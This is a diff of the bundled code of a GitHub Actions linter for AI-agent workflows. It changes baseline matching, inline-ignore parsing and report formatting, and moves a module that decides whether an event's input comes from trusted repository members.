+  const findings = top.findings.map((item, i) => {
+    const where = `findings[${i}]`;
+    if (item === null || typeof item !== "object" || Array.isArray(item)) return bad(`${where} must be an object`);
+    const e = item;
+    for (const key2 of Object.keys(e)) {
+      if (!["rule", "file", "job", "step", "fingerprint", "count"].includes(key2)) bad(`${where} has unknown key "${key2}"`);
+    }
+    for (const key2 of ["rule", "file", "fingerprint"]) if (typeof e[key2] !== "string" || e[key2] === "") bad(`${where}.${key2} must be a non-empty string`);
+    for (const key2 of ["job", "step"]) if (e[key2] !== null && typeof e[key2] !== "string") bad(`${where}.${key2} must be a string or null`);
+    if (!Number.isInteger(e.count) || e.count < 1) bad(`${where}.count must be a whole number >= 1`);
+    return { rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count };
+  });
+  return { version: BASELINE_VERSION, findings };
+}
+function applyBaseline(findings, baseline, cwd, root = baselineRoot(cwd)) {
+  const left = /* @__PURE__ */ new Map();
+  for (const e of baseline.findings) {
+    const id = [e.fingerprint, e.rule, e.file, e.job ?? "", e.step ?? ""].join("\0");
+    const seen = left.get(id);
+    if (seen) seen.count += e.count;
+    else left.set(id, { entry: e, count: e.count });
+  }
+  const fresh = [];
+  const known = [];
+  let byPosition = 0;
+  const take2 = (k) => {
+    const slot = k && left.get([k.fingerprint, k.rule, k.file, k.job ?? "", k.step ?? ""].join("\0"));
+    if (!slot || slot.count === 0) return false;
+    slot.count--;
+    return true;
+  };
+  for (const f of sortFindings(findings)) {
+    if (take2(entryKey(f, cwd, root))) known.push(f);
+    else if (take2(positionKey(f, cwd, root))) {
+      known.push(f);
+      byPosition++;
+    } else fresh.push(f);
+  }
+  const gone = [...left.values()].filter((s) => s.count > 0).map((s) => ({ ...s.entry, count: s.count }));
+  return { fresh, known, byPosition, gone };
+}
+function baselineNote(file, outcome) {
+  const known = outcome.known.length;
+  const gone = outcome.gone.reduce((n, e) => n + e.count, 0);
+  let line = `baseline ${file}: ${known} known finding${known === 1 ? "" : "s"} not reported`;
+  if (gone > 0) line += `, ${gone} baselined finding${gone === 1 ? "" : "s"} no longer found (fixed or changed; refresh with --write-baseline)`;
+  if (outcome.byPosition > 0) {
+    line += `, ${outcome.byPosition} matched by step position (#N, as older versions wrote; refresh with --write-baseline so inserting a step cannot unmatch them)`;
+  }
+  return line;
+}
+
+// src/action/lint.ts
+init_types();
 
 // src/lint.ts
+var import_node_fs5 = __toESM(require("node:fs"));
+var import_node_path4 = __toESM(require("node:path"));
 init_types();
+
+// src/ignores.ts
+var INLINE_IGNORE = /#\s*agent-guard:\s*ignore\[([^\]]*)\]/g;
+function idsOn(line) {
+  const ids = [];
+  for (const m of line.matchAll(INLINE_IGNORE)) ids.push(...m[1].split(",").map((id) => id.trim()));
+  return ids;
+}
+function inlineIgnored(f, lineOf) {
+  const silences = (file, line) => idsOn(lineOf(file, line)).some((id) => id === f.rule || id === "*");
+  if (silences(f.file, f.line)) return true;
+  const at = f.stepAt;
+  if (!at) return false;
+  if (at.lines.some((l) => silences(at.file, l))) return true;
+  let above = at.lines[0] - 1;
+  if (/^\s*-\s*$/.test(lineOf(at.file, above))) above--;
+  for (; above >= 1 && /^\s*#/.test(lineOf(at.file, above)); above--) if (silences(at.file, above)) return true;
+  return false;
+}
+function badInlineIgnores(file, text) {
+  if (!text.includes("agent-guard:")) return [];
+  const errors = [];
+  text.split("\n").forEach((line, i) => {
+    for (const m of line.matchAll(INLINE_IGNORE)) {
+      const ids = m[1].split(",").map((id) => id.trim());
+      const column = (m.index ?? 0) + 1;
+      if (ids.every((id) => id === "")) errors.push({ file, line: i + 1, column, message: "agent-guard: ignore[] names no rule (give rule ids, or * for all)" });
+      for (const id of ids) {
+        if (id !== "" && id !== "*" && !RULE_IDS.includes(id)) errors.push({ file, line: i + 1, column, message: `inline ignore: ${unknownRuleMessage(id)}` });
+      }
+    }
+  });
+  return errors;
+}
+
+// src/lint.ts
 function lint(options) {
   const started = performance.now();
   const config = options.config ?? EMPTY_CONFIG;
   const errors = [];
+  const notes = [];
+  const checkedIgnores = /* @__PURE__ */ new Set();
   const findings = [];
   const kept = /* @__PURE__ */ new Map();
   const stats = { files: 0, workflows: 0, actions: 0, jobs: 0, steps: 0, agentSteps: 0, durationMs: 0 };
@@ -25568,15 +24869,23 @@ function lint(options) {
     users: new Set(config.trustedUsers.map((u) => u.toLowerCase())),
     bots: new Set(config.trustedBots.map((u) => u.toLowerCase()))
   };
-  for (const set of options.files ? memorySets(options.files, errors) : discover(options.paths, errors)) {
-    const repo = openRepository(set, options.cwd, options.remote);
+  const sets = options.files ? memorySets(options.files, notes) : discover(options.paths, errors, notes, options.cwd);
+  const root = reportRoot(sets, options.cwd ?? process.cwd());
+  const readQuietly = (f) => readFileQuietly(import_node_path4.default.resolve(root, f));
+  for (const set of sets) {
+    const repo = openRepository(set, root, options.remote);
     for (const file of repo.files) {
       if (options.only && !options.only.has(file.abs)) continue;
       const workflow = repo.workflow(file.abs);
       if (!workflow) continue;
       stats.workflows++;
       const textOf2 = (f) => repo.text(f) ?? repo.sources.get(f) ?? readQuietly(f);
-      const found = applyConfig(lintWorkflow(repo, workflow, file.abs, rules, stats, trust), config, textOf2);
+      const raw = lintWorkflow(repo, workflow, file.abs, rules, stats, trust);
+      for (const f of /* @__PURE__ */ new Set([workflow.file.path, ...raw.map((r) => r.stepAt?.file ?? r.file)])) {
+        if (!checkedIgnores.has(f)) errors.push(...badInlineIgnores(f, textOf2(f)));
+        checkedIgnores.add(f);
+      }
+      const found = applyConfig(raw, config, textOf2);
       for (const finding2 of found) {
         const f = detached(finding2);
         findings.push(f);
@@ -25592,7 +24901,7 @@ function lint(options) {
   stats.durationMs = Math.round(performance.now() - started);
   const sources = /* @__PURE__ */ new Map();
   for (const [file, lines] of kept) sources.set(file, sparseText(lines));
-  return { findings: dedupe2(findings), errors: uniqueErrors(errors), stats, rules: CHECKS.map((c) => c.meta), sources };
+  return { findings: dedupe2(findings), errors: uniqueErrors(errors), stats, rules: CHECKS.map((c) => c.meta), sources, notes, root };
 }
 function keepLines(kept, file, lines, textOf2) {
   let map = kept.get(file);
@@ -25633,7 +24942,9 @@ function mergeResults(parts) {
     errors: uniqueErrors(parts.flatMap((p) => p.errors)),
     stats,
     rules: parts[0]?.rules ?? CHECKS.map((c) => c.meta),
-    sources
+    sources,
+    notes: [...new Set(parts.flatMap((p) => p.notes ?? []))],
+    root: parts[0]?.root
   };
 }
 function mergeSparse(a, b) {
@@ -25641,7 +24952,7 @@ function mergeSparse(a, b) {
   const y = b.split("\n");
   return Array.from({ length: Math.max(x.length, y.length) }, (_, i) => x[i] || y[i] || "").join("\n");
 }
-function readQuietly(file) {
+function readFileQuietly(file) {
   try {
     return import_node_fs5.default.readFileSync(file, "utf8");
   } catch {
@@ -25684,7 +24995,6 @@ function dedupe2(findings) {
   }
   return [...best.values()];
 }
-var INLINE_IGNORE = /#\s*agent-guard:\s*ignore\[([^\]]*)\]/;
 function applyConfig(findings, config, textOf2) {
   const lineCache = /* @__PURE__ */ new Map();
   const lineOf = (file, line) => {
@@ -25693,8 +25003,7 @@ function applyConfig(findings, config, textOf2) {
     return lines[line - 1] ?? "";
   };
   return findings.filter((f) => {
-    const inline2 = INLINE_IGNORE.exec(lineOf(f.file, f.line));
-    if (inline2 && inline2[1].split(",").some((id) => id.trim() === f.rule || id.trim() === "*")) return false;
+    if (inlineIgnored(f, lineOf)) return false;
     return !config.ignore.some(
       (ig) => (!ig.rule || ig.rule === f.rule) && (!ig.file || globMatch(ig.file, f.file)) && (!ig.job || ig.job === f.job)
     );
@@ -25782,7 +25091,7 @@ function annotationBody(f, root) {
     out.push("Path:");
     for (const h of f.path) out.push(`  \u21B3 ${repoPath(h.file, root)}:${h.line}:${h.column} ${h.note}`);
   }
-  if (f.capabilities.length > 0) out.push(`Agent holds: ${f.capabilities.join(", ")}`);
+  if (f.capabilities.length > 0) out.push(`${capitalised(holdsLabel(f))}: ${f.capabilities.join(", ")}`);
   if (f.fix.trim() !== "") out.push(`Fix: ${f.fix.trim()}`);
   return out.join("\n");
 }
@@ -25793,7 +25102,7 @@ function errorAnnotation(e, root) {
       ["file", repoPath(e.file, root)],
       ["line", e.line >= 1 ? e.line : void 0],
       ["col", e.column >= 1 ? e.column : void 0],
-      ["title", `${TOOL_NAME}: could not read file`]
+      ["title", `${TOOL_NAME}: error`]
     ],
     e.message
   );
@@ -25831,6 +25140,7 @@ function jsonFinding(f) {
     path: f.path.map(jsonHop),
     related: (f.related ?? []).map(jsonHop),
     capabilities: [...f.capabilities],
+    holder: f.holder ?? "agent",
     fix: f.fix
   };
 }
@@ -25877,15 +25187,16 @@ function formatText(result, opts = {}) {
     return lineCache.get(file);
   };
   let currentFile;
-  for (const f of sortFindings(result.findings)) {
-    if (f.file !== currentFile) {
+  for (const group of groupByStep(sortFindings(result.findings))) {
+    const file = group[0].file;
+    if (file !== currentFile) {
       if (currentFile !== void 0) out.push("");
-      currentFile = f.file;
-      out.push(paint("1;4", sanitizeTerminal(oneLine(f.file))));
+      currentFile = file;
+      out.push(paint("1;4", sanitizeTerminal(oneLine(file))));
     } else {
       out.push("");
     }
-    out.push(...renderFinding(f, linesOf(f.file), paint));
+    out.push(...renderGroup(group, linesOf(file), paint));
   }
   const errors = sortErrors(result.errors);
   if (errors.length > 0) {
@@ -25907,7 +25218,34 @@ function loc(file, line, column) {
 function renderError(e, paint) {
   return `${loc(e.file, e.line, e.column)}: ${paint("1;31", "error")}: ${sanitizeTerminal(oneLine(e.message).trim())}`;
 }
-function renderFinding(f, lines, paint) {
+function renderGroup(group, lines, paint) {
+  const out = [];
+  const holdings = new Set(group.map(holdingKey));
+  group.forEach((f, i) => {
+    out.push(...renderFinding(f, lines, paint, i > 0 ? group[i - 1].path : []));
+    if (holdings.size > 1) out.push(...renderHolding(f, paint));
+  });
+  const first = group[0];
+  if (first.job !== void 0 || first.step !== void 0) {
+    const where = [];
+    if (first.job !== void 0) where.push(`job ${sanitizeTerminal(oneLine(first.job))}`);
+    if (first.step !== void 0) where.push(`step ${sanitizeTerminal(oneLine(first.step))}`);
+    out.push(`${INDENT}${paint("2", `in ${where.join(", ")}`)}`);
+  }
+  if (holdings.size === 1) out.push(...renderHolding(first, paint));
+  for (const [rules, fix] of fixesOf(group)) out.push(...labelled(rules ? `fix (${rules.join(", ")})` : "fix", sanitizeTerminal(fix), paint));
+  return out;
+}
+function renderHolding(f, paint) {
+  if (f.capabilities.length === 0) return [];
+  return labelled(holdsLabel(f), f.capabilities.map((c) => sanitizeTerminal(oneLine(c))).join(", "), paint);
+}
+function sharedHops(a, b) {
+  let n = 0;
+  while (n < a.length && n < b.length && a[n].file === b[n].file && a[n].line === b[n].line && a[n].column === b[n].column && a[n].note === b[n].note) n++;
+  return n;
+}
+function renderFinding(f, lines, paint, previousPath) {
   const out = [];
   const [first, ...rest] = sanitizeTerminal(f.message).split("\n");
   out.push(
@@ -25923,13 +25261,9 @@ function renderFinding(f, lines, paint) {
     out.push(`  ${paint("34", `${num2} |`)} ${snip.text}`);
     out.push(`  ${paint("34", `${pad} |`)} ${" ".repeat(snip.caret)}${paint(`1;${SEVERITY_STYLE[f.severity].replace(/^1;/, "")}`, snip.marker)}`);
   }
-  if (f.job !== void 0 || f.step !== void 0) {
-    const where = [];
-    if (f.job !== void 0) where.push(`job ${sanitizeTerminal(oneLine(f.job))}`);
-    if (f.step !== void 0) where.push(`step ${sanitizeTerminal(oneLine(f.step))}`);
-    out.push(`${INDENT}${paint("2", `in ${where.join(", ")}`)}`);
-  }
-  for (const hop of f.path) {
+  const shared = Math.min(sharedHops(f.path, previousPath), f.path.length - 1);
+  if (shared >= 2) out.push(`  ${paint("35", "\u21B3")} ${paint("2", `(the first ${shared} hops as above)`)}`);
+  for (const hop of shared >= 2 ? f.path.slice(shared) : f.path) {
     const note = sanitizeTerminal(hop.note).split("\n");
     out.push(`  ${paint("35", "\u21B3")} ${loc(hop.file, hop.line, hop.column)} ${note[0]}`);
     for (const l of note.slice(1)) out.push(`${INDENT}${l}`);
@@ -25937,11 +25271,7 @@ function renderFinding(f, lines, paint) {
   for (const hop of f.related ?? []) {
     out.push(`  ${paint("35", "+")} ${loc(hop.file, hop.line, hop.column)} ${sanitizeTerminal(oneLine(hop.note))}`);
   }
-  if (f.capabilities.length > 0) {
-    out.push(...labelled("agent holds", f.capabilities.map((c) => sanitizeTerminal(oneLine(c))).join(", "), paint));
-  }
   if (f.confidence !== "high") out.push(`${INDENT}${paint("2", `confidence: ${f.confidence}`)}`);
-  if (f.fix.trim() !== "") out.push(...labelled("fix", sanitizeTerminal(f.fix), paint));
   return out;
 }
 function labelled(label, text, paint) {
@@ -26058,161 +25388,9 @@ function colorEnabled(isTTY, env) {
 // src/action/lint.ts
 init_summary();
 
-// src/guard/untrusted.ts
-var import_node_fs6 = __toESM(require("node:fs"));
-var TRUSTED_ASSOCIATIONS = /* @__PURE__ */ new Set(["OWNER", "MEMBER", "COLLABORATOR"]);
-var WRITE_ONLY_EVENTS = /* @__PURE__ */ new Set(["push", "workflow_dispatch", "schedule"]);
-function obj(v) {
-  return v !== null && typeof v === "object" && !Array.isArray(v) ? v : void 0;
-}
-function str2(v) {
-  return typeof v === "string" ? v : void 0;
-}
-function show(v, fallback = "unknown") {
-  const s = typeof v === "string" || typeof v === "number" ? String(v) : "";
-  if (s === "") return fallback;
-  const clean = s.replace(/[^A-Za-z0-9_.\-/[\]]/g, "?");
-  return clean.length > 100 ? `${clean.slice(0, 99)}\u2026` : clean;
-}
-function untrusted(event, reason) {
-  return { untrusted: true, event, reason };
-}
-function trusted(event, reason) {
-  return { untrusted: false, event, reason };
-}
-function isBot(user) {
-  if (!user) return false;
-  return str2(user.type) === "Bot" || (str2(user.login) ?? "").endsWith("[bot]");
-}
-function outsiderAmong(authors) {
-  for (const { what, item } of authors) {
-    if (!item) return `the payload has no ${what}, so its author cannot be checked`;
-    const login = show(obj(item.user)?.login);
-    const assoc = str2(item.author_association);
-    if (!assoc) return `${what} by ${login} has no author_association`;
-    if (!TRUSTED_ASSOCIATIONS.has(assoc)) return `${what} was written by ${login} (author_association ${show(assoc)}), who is not an owner, member or collaborator`;
-    if (isBot(obj(item.user))) return `${what} was written by the bot ${login}, which writes for whoever drives it`;
-  }
-  return void 0;
-}
-function authorsLine(authors) {
-  return authors.map(({ what, item }) => `${what} by ${show(obj(item?.user)?.login)} (${show(item?.author_association)})`).join(" and ");
-}
-function numbered(kind, item) {
-  const n = item?.number;
-  return typeof n === "number" ? `${kind} #${n}` : kind;
-}
-function forkReason(pr, repoName) {
-  if (!pr) return "the payload has no pull_request, so its head cannot be checked";
-  const head = obj(obj(pr.head)?.repo);
-  const base = str2(obj(obj(pr.base)?.repo)?.full_name) ?? repoName;
-  const headName = str2(head?.full_name);
-  if (!headName) return `the head repository of ${numbered("pull request", pr)} is gone or unknown (a deleted fork)`;
-  if (!base) return `the payload names no base repository for ${numbered("pull request", pr)}`;
-  if (headName !== base) return `${numbered("pull request", pr)} comes from the fork ${show(headName)}`;
-  return void 0;
-}
-function decideTrust(eventName, payload) {
-  const event = eventName ?? "";
-  if (!event) return untrusted("", "GITHUB_EVENT_NAME is not set, so who wrote the input cannot be checked.");
-  const p = obj(payload);
-  if (!p) return untrusted(event, `the '${show(event)}' event payload is not a JSON object, so who wrote the input cannot be checked.`);
-  const repoName = str2(obj(p.repository)?.full_name);
-  const sender = obj(p.sender);
-  if (isBot(sender)) {
-    return untrusted(event, `the '${show(event)}' event was sent by the bot ${show(sender?.login)}, which acts for whoever drives it.`);
-  }
-  if (WRITE_ONLY_EVENTS.has(event)) {
-    if (event === "schedule") {
-      return trusted(event, "'schedule' is fired by the repository's own cron and carries no outsider text (what the agent fetches itself is not covered).");
-    }
-    if (!sender) return untrusted(event, `the '${event}' payload names no sender.`);
-    return trusted(event, `'${event}' needs write access, and was fired by ${show(sender.login)}.`);
-  }
-  switch (event) {
-    case "issues":
-    case "issue_comment":
-    case "discussion":
-    case "discussion_comment": {
-      const isDiscussion = event.startsWith("discussion");
-      const parent = obj(isDiscussion ? p.discussion : p.issue);
-      const parentWhat = numbered(isDiscussion ? "discussion" : obj(parent?.pull_request) ? "pull request" : "issue", parent);
-      const authors = [];
-      if (event.endsWith("_comment")) authors.push({ what: "the comment", item: obj(p.comment) });
-      authors.push({ what: parentWhat, item: parent });
-      const outsider = outsiderAmong(authors);
-      if (outsider) return untrusted(event, `${outsider}.`);
-      return trusted(event, `${authorsLine(authors)}: every author is an owner, member or collaborator.`);
-    }
-    case "pull_request":
-    case "pull_request_target":
-    case "pull_request_review":
-    case "pull_request_review_comment": {
-      const pr = obj(p.pull_request);
-      const fork = forkReason(pr, repoName);
-      if (fork) return untrusted(event, `${fork}.`);
-      const authors = [];
-      if (event === "pull_request_review") authors.push({ what: "the review", item: obj(p.review) });
-      if (event === "pull_request_review_comment") authors.push({ what: "the review comment", item: obj(p.comment) });
-      authors.push({ what: numbered("pull request", pr), item: pr });
-      const outsider = outsiderAmong(authors);
-      if (outsider) return untrusted(event, `${outsider}.`);
-      return trusted(event, `${authorsLine(authors)}, from a branch of this repository: every author is an owner, member or collaborator.`);
-    }
-    case "workflow_run": {
-      const run = obj(p.workflow_run);
-      if (!run) return untrusted(event, "the payload has no workflow_run, so the upstream run cannot be checked.");
-      const head = str2(obj(run.head_repository)?.full_name);
-      if (!head || !repoName) return untrusted(event, "the upstream run names no head repository, so where its code came from cannot be checked.");
-      if (head !== repoName) return untrusted(event, `the upstream run ran code from the fork ${show(head)}.`);
-      for (const who of [obj(run.actor), obj(run.triggering_actor)]) {
-        if (isBot(who)) return untrusted(event, `the upstream run was started by the bot ${show(who?.login)}, which acts for whoever drives it.`);
-      }
-      const upstream = str2(run.event) ?? "";
-      if (WRITE_ONLY_EVENTS.has(upstream) || upstream === "pull_request") {
-        return trusted(event, `the upstream run was a '${show(upstream)}' on a branch of this repository.`);
-      }
-      return untrusted(event, `the upstream run was fired by '${show(upstream, "an unknown event")}', whose input outsiders may write.`);
-    }
-    case "repository_dispatch":
-      return untrusted(event, "'repository_dispatch' carries whatever payload the API caller chose.");
-    case "merge_group":
-      return untrusted(event, "'merge_group' runs pull-request code, which outsiders may have written.");
-    default:
-      return untrusted(event, `agent-guard does not know who can write the input of '${show(event)}' events, so it assumes anyone.`);
-  }
-}
-function readTrustDecision(env) {
-  const event = env.GITHUB_EVENT_NAME;
-  if (!event) return decideTrust(void 0, void 0);
-  const file = env.GITHUB_EVENT_PATH;
-  if (!file) return untrusted(event, "GITHUB_EVENT_PATH is not set, so who wrote the input cannot be checked.");
-  let text;
-  try {
-    text = import_node_fs6.default.readFileSync(file, "utf8");
-  } catch (err) {
-    return untrusted(event, `the event payload ${show(file)} cannot be read (${err.code ?? "error"}), so who wrote the input cannot be checked.`);
-  }
-  let payload;
-  try {
-    payload = JSON.parse(text);
-  } catch {
-    return untrusted(event, `the event payload ${show(file)} is not valid JSON, so who wrote the input cannot be checked.`);
-  }
-  return decideTrust(event, payload);
-}
-function untrustedRefusal(decision, opts, allowOnUntrusted, override) {
-  if (!decision.untrusted || allowOnUntrusted) return void 0;
-  const opened = [];
-  if (opts.allowHosts.length) opened.push(`allow-hosts (${opts.allowHosts.map((h) => `${h.host}:${h.port}`).join(", ")})`);
-  if (opts.passEnv.length) opened.push(`pass-env (${opts.passEnv.join(", ")})`);
-  if (!opened.length) return void 0;
-  return `refused: the input is untrusted (${decision.reason.replace(/\.$/, "")}), and ${opened.join(" and ")} would hand an agent hijacked by that input a way out or a credential; remove them, or set ${override} if you accept that`;
-}
-
 // src/action/runner.ts
 var import_node_crypto2 = require("node:crypto");
-var import_node_fs7 = __toESM(require("node:fs"));
+var import_node_fs6 = __toESM(require("node:fs"));
 var InputError = class extends Error {
 };
 function getInput(ctx, name) {
@@ -26256,7 +25434,7 @@ function setOutputs(ctx, outputs) {
   if (!file) return;
   let text = "";
   for (const [name, value] of Object.entries(outputs)) text += fileCommand(name, value);
-  import_node_fs7.default.appendFileSync(file, text);
+  import_node_fs6.default.appendFileSync(file, text);
 }
 function fileCommand(name, value) {
   if (!/^[A-Za-z_][A-Za-z0-9_-]*$/.test(name)) throw new Error(`bad output name '${name}'`);
@@ -26270,7 +25448,7 @@ ${delimiter}
 function appendSummary(ctx, markdown) {
   const file = ctx.env.GITHUB_STEP_SUMMARY;
   if (!file) return;
-  import_node_fs7.default.appendFileSync(file, markdown.endsWith("\n") ? markdown : `${markdown}
+  import_node_fs6.default.appendFileSync(file, markdown.endsWith("\n") ? markdown : `${markdown}
 `);
 }
 function errorCommand(message) {
@@ -26286,6 +25464,7 @@ function withoutInputs(env) {
 // src/action/lint.ts
 function readLintInputs(ctx) {
   const paths = getListInput(ctx, "path").map((p) => import_node_path5.default.resolve(ctx.cwd, p));
+  for (const p of paths) if (!import_node_fs7.default.existsSync(p)) throw new InputError(`input 'path': ${relative2(ctx, p)} does not exist`);
   const sarif = getInput(ctx, "sarif-file");
   const config = getInput(ctx, "config");
   const baseline = getInput(ctx, "baseline");
@@ -26317,15 +25496,20 @@ function actionLint(ctx, toolVersion) {
   let outcome;
   let result = full;
   if (inputs.baseline) {
-    outcome = applyBaseline(full.findings, readBaseline(inputs.baseline), ctx.cwd);
+    outcome = applyBaseline(full.findings, readBaseline(inputs.baseline), full.root ?? ctx.cwd);
     result = { ...full, findings: outcome.fresh };
   }
-  const root = ctx.cwd;
+  const root = full.root ?? ctx.cwd;
   ctx.stdout.write(formatReport(result, inputs.format, { color: false, toolVersion, root }));
   if (inputs.format !== "github") ctx.stdout.write(formatGithub(result, { root }));
-  import_node_fs8.default.mkdirSync(import_node_path5.default.dirname(inputs.sarifFile), { recursive: true });
-  import_node_fs8.default.writeFileSync(inputs.sarifFile, formatSarif(result, { toolVersion, root }));
+  import_node_fs7.default.mkdirSync(import_node_path5.default.dirname(inputs.sarifFile), { recursive: true });
+  import_node_fs7.default.writeFileSync(inputs.sarifFile, formatSarif(result, { toolVersion, root }));
   const notes = [];
+  for (const note of full.notes ?? []) {
+    ctx.stderr.write(`agent-guard: ${note}
+`);
+    notes.push(md(note));
+  }
   if (inputs.baseline && outcome) {
     const note = baselineNote(relative2(ctx, inputs.baseline), outcome);
     ctx.stderr.write(`agent-guard: ${note}
@@ -26340,8 +25524,7 @@ ${notes.join("\n\n")}
   setOutputs(ctx, {
     findings: String(result.findings.length),
     "highest-severity": worst,
-    "sarif-file": inputs.sarifFile,
-    untrusted: String(readTrustDecision(ctx.env).untrusted)
+    "sarif-file": inputs.sarifFile
   });
   const nothingRead = full.stats.workflows === 0 && full.errors.length > 0;
   if (nothingRead) {
@@ -26364,7 +25547,7 @@ var import_node_path16 = __toESM(require("node:path"));
 init_command();
 
 // src/guard/grants/apply.ts
-var import_node_fs23 = __toESM(require("node:fs"));
+var import_node_fs22 = __toESM(require("node:fs"));
 init_audit();
 init_env();
 init_errors();
@@ -26404,9 +25587,6 @@ function parseApplyArgs(args) {
       case "--allow-links":
         out.allowLinks = true;
         break;
-      case "-h":
-      case "--help":
-        throw new GuardError("usage", APPLY_USAGE);
       default:
         if (arg.startsWith("-") || out.file) throw new GuardError("usage", `unexpected "${arg}". ${APPLY_USAGE}`);
         out.file = arg;
@@ -26494,7 +25674,7 @@ function applySummaryMarkdown(audit, performed) {
 function appendSummary2(env, audit, performed) {
   if (env.GITHUB_STEP_SUMMARY) {
     try {
-      import_node_fs23.default.appendFileSync(env.GITHUB_STEP_SUMMARY, applySummaryMarkdown(audit, performed));
+      import_node_fs22.default.appendFileSync(env.GITHUB_STEP_SUMMARY, applySummaryMarkdown(audit, performed));
     } catch {
     }
   }
@@ -26506,6 +25686,160 @@ init_session();
 init_errors();
 init_options();
 init_providers2();
+
+// src/guard/untrusted.ts
+var import_node_fs23 = __toESM(require("node:fs"));
+var TRUSTED_ASSOCIATIONS = /* @__PURE__ */ new Set(["OWNER", "MEMBER", "COLLABORATOR"]);
+var WRITE_ONLY_EVENTS = /* @__PURE__ */ new Set(["push", "workflow_dispatch", "schedule"]);
+function obj2(v) {
+  return v !== null && typeof v === "object" && !Array.isArray(v) ? v : void 0;
+}
+function str4(v) {
+  return typeof v === "string" ? v : void 0;
+}
+function show(v, fallback = "unknown") {
+  const s = typeof v === "string" || typeof v === "number" ? String(v) : "";
+  if (s === "") return fallback;
+  const clean = s.replace(/[^A-Za-z0-9_.\-/[\]]/g, "?");
+  return clean.length > 100 ? `${clean.slice(0, 99)}\u2026` : clean;
+}
+function untrusted(event, reason) {
+  return { untrusted: true, event, reason };
+}
+function trusted(event, reason) {
+  return { untrusted: false, event, reason };
+}
+function isBot(user) {
+  if (!user) return false;
+  return str4(user.type) === "Bot" || (str4(user.login) ?? "").endsWith("[bot]");
+}
+function outsiderAmong(authors) {
+  for (const { what, item } of authors) {
+    if (!item) return `the payload has no ${what}, so its author cannot be checked`;
+    const login = show(obj2(item.user)?.login);
+    const assoc = str4(item.author_association);
+    if (!assoc) return `${what} by ${login} has no author_association`;
+    if (!TRUSTED_ASSOCIATIONS.has(assoc)) return `${what} was written by ${login} (author_association ${show(assoc)}), who is not an owner, member or collaborator`;
+    if (isBot(obj2(item.user))) return `${what} was written by the bot ${login}, which writes for whoever drives it`;
+  }
+  return void 0;
+}
+function authorsLine(authors) {
+  return authors.map(({ what, item }) => `${what} by ${show(obj2(item?.user)?.login)} (${show(item?.author_association)})`).join(" and ");
+}
+function numbered(kind, item) {
+  const n = item?.number;
+  return typeof n === "number" ? `${kind} #${n}` : kind;
+}
+function forkReason(pr, repoName) {
+  if (!pr) return "the payload has no pull_request, so its head cannot be checked";
+  const head = obj2(obj2(pr.head)?.repo);
+  const base = str4(obj2(obj2(pr.base)?.repo)?.full_name) ?? repoName;
+  const headName = str4(head?.full_name);
+  if (!headName) return `the head repository of ${numbered("pull request", pr)} is gone or unknown (a deleted fork)`;
+  if (!base) return `the payload names no base repository for ${numbered("pull request", pr)}`;
+  if (headName !== base) return `${numbered("pull request", pr)} comes from the fork ${show(headName)}`;
+  return void 0;
+}
+function decideTrust(eventName, payload) {
+  const event = eventName ?? "";
+  if (!event) return untrusted("", "GITHUB_EVENT_NAME is not set, so who wrote the input cannot be checked.");
+  const p = obj2(payload);
+  if (!p) return untrusted(event, `the '${show(event)}' event payload is not a JSON object, so who wrote the input cannot be checked.`);
+  const repoName = str4(obj2(p.repository)?.full_name);
+  const sender = obj2(p.sender);
+  if (isBot(sender)) {
+    return untrusted(event, `the '${show(event)}' event was sent by the bot ${show(sender?.login)}, which acts for whoever drives it.`);
+  }
+  if (WRITE_ONLY_EVENTS.has(event)) {
+    if (event === "schedule") {
+      return trusted(event, "'schedule' is fired by the repository's own cron and carries no outsider text (what the agent fetches itself is not covered).");
+    }
+    if (!sender) return untrusted(event, `the '${event}' payload names no sender.`);
+    return trusted(event, `'${event}' needs write access, and was fired by ${show(sender.login)}.`);
+  }
+  switch (event) {
+    case "issues":
+    case "issue_comment":
+    case "discussion":
+    case "discussion_comment": {
+      const isDiscussion = event.startsWith("discussion");
+      const parent = obj2(isDiscussion ? p.discussion : p.issue);
+      const parentWhat = numbered(isDiscussion ? "discussion" : obj2(parent?.pull_request) ? "pull request" : "issue", parent);
+      const authors = [];
+      if (event.endsWith("_comment")) authors.push({ what: "the comment", item: obj2(p.comment) });
+      authors.push({ what: parentWhat, item: parent });
+      const outsider = outsiderAmong(authors);
+      if (outsider) return untrusted(event, `${outsider}.`);
+      return trusted(event, `${authorsLine(authors)}: every author is an owner, member or collaborator.`);
+    }
+    case "pull_request":
+    case "pull_request_target":
+    case "pull_request_review":
+    case "pull_request_review_comment": {
+      const pr = obj2(p.pull_request);
+      const fork = forkReason(pr, repoName);
+      if (fork) return untrusted(event, `${fork}.`);
+      const authors = [];
+      if (event === "pull_request_review") authors.push({ what: "the review", item: obj2(p.review) });
+      if (event === "pull_request_review_comment") authors.push({ what: "the review comment", item: obj2(p.comment) });
+      authors.push({ what: numbered("pull request", pr), item: pr });
+      const outsider = outsiderAmong(authors);
+      if (outsider) return untrusted(event, `${outsider}.`);
+      return trusted(event, `${authorsLine(authors)}, from a branch of this repository: every author is an owner, member or collaborator.`);
+    }
+    case "workflow_run": {
+      const run = obj2(p.workflow_run);
+      if (!run) return untrusted(event, "the payload has no workflow_run, so the upstream run cannot be checked.");
+      const head = str4(obj2(run.head_repository)?.full_name);
+      if (!head || !repoName) return untrusted(event, "the upstream run names no head repository, so where its code came from cannot be checked.");
+      if (head !== repoName) return untrusted(event, `the upstream run ran code from the fork ${show(head)}.`);
+      for (const who of [obj2(run.actor), obj2(run.triggering_actor)]) {
+        if (isBot(who)) return untrusted(event, `the upstream run was started by the bot ${show(who?.login)}, which acts for whoever drives it.`);
+      }
+      const upstream = str4(run.event) ?? "";
+      if (WRITE_ONLY_EVENTS.has(upstream) || upstream === "pull_request") {
+        return trusted(event, `the upstream run was a '${show(upstream)}' on a branch of this repository.`);
+      }
+      return untrusted(event, `the upstream run was fired by '${show(upstream, "an unknown event")}', whose input outsiders may write.`);
+    }
+    case "repository_dispatch":
+      return untrusted(event, "'repository_dispatch' carries whatever payload the API caller chose.");
+    case "merge_group":
+      return untrusted(event, "'merge_group' runs pull-request code, which outsiders may have written.");
+    default:
+      return untrusted(event, `agent-guard does not know who can write the input of '${show(event)}' events, so it assumes anyone.`);
+  }
+}
+function readTrustDecision(env) {
+  const event = env.GITHUB_EVENT_NAME;
+  if (!event) return decideTrust(void 0, void 0);
+  const file = env.GITHUB_EVENT_PATH;
+  if (!file) return untrusted(event, "GITHUB_EVENT_PATH is not set, so who wrote the input cannot be checked.");
+  let text;
+  try {
